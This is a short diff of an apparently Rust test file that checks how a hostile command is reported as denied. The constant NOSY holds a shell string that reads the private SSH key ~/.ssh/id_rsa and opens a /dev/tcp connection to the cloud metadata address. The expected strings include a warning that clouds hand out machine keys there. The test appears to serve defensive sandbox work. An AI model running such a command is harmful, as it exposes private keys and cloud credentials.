@@ -17,7 +17,7 @@ const NOSY: &str = "cat ~/.ssh/id_rsa 2>/dev/null; echo > /dev/tcp/169.254.169.2
 /// What a reader sees of it.
 const SEEN_OF_NOSY: [&str; 5] = [
     "succeeded, 1 thing denied",
-    "1 denied",
+    "1\ndenied",
     "Looked for, and not there",
     "/home/user/.ssh/id_rsa",
     "beware: there most clouds hand out the keys of the machine",
